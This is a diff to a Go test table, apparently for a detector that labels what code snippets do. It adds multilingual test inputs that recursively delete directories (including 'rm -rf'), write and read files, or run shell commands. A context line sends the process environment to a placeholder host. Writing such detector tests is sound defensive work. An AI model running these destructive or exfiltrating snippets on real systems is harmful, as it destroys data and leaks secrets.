@@ -71,6 +71,20 @@ func TestRead(t *testing.T) {
 		{commands.JavaScript, `axios.post("http://h.test", process.env)`, "Send http://h.test; Disclose environment"},
 		{commands.JavaScript, `process.env["HOME"]; process.env.HOME`, ""},
 		{commands.Native, `x <- run; print(system)`, ""},
+		{commands.Native, `Directory("/x").deleteSync(recursive: true);`, "Delete /x/**"},
+		{commands.Native, `new File("a/b").deleteDir()`, "Delete a/b/**"},
+		{commands.Native, `File("/x").writeText("y"); client.delete("/x"); list.remove("x")`, "Write /x"},
+		{commands.Native, `File(x).delete(); File("a", "b").delete(); Thing("a").delete()`, ""},
+		{commands.Native, `Files.delete(Paths.get("/x")); fs::remove_dir_all(Path::new("/y"))`, "Delete /x/**; Delete /y/**"},
+		{commands.Native, "p.launchPath = \"/bin/rm\"\np.arguments = [\"-rf\", \"x\"]", "Run[words] /bin/rm -rf x"},
+		{commands.Native, `p.executableURL = URL(fileURLWithPath: "/bin/rm"); p.arguments = ["-rf", "x"]`, "Run[words] /bin/rm -rf x"},
+		{commands.Native, `new ProcessStartInfo { FileName = "rm", Arguments = "-rf x" }`, "Run[line] rm -rf x"},
+		{commands.Native, `p.arguments = ["-rf", "x"]; p.launchPath = x`, ""},
+		{commands.Native, `file:del_dir_r("/x"), os:cmd("ls")`, "Delete /x/**; Run[line] ls"},
+		{commands.Native, `removeDir("/x"); rmdirRecurse("/y"); os.rmdir_all("/z") or {}`, "Delete /x/**; Delete /y/**; Delete /z/**"},
+		{commands.Native, `(spit "a" "b") (slurp "c")`, "Write a; Read c"},
+		{commands.Native, `main = writeFile "a" text >> removeFile "b"`, "Write a; Delete b/**"},
+		{commands.Native, `fopen("a", "w"); fopen("b", "r"); rename("c", "d")`, "Write a; Read b; Delete{relocated} c/**; Write d"},
 	} {
 		r := Read(c.lang, c.text, code.Setting{Home: "/home/dev", Secret: func(string) bool { return false }})
 		var got []string
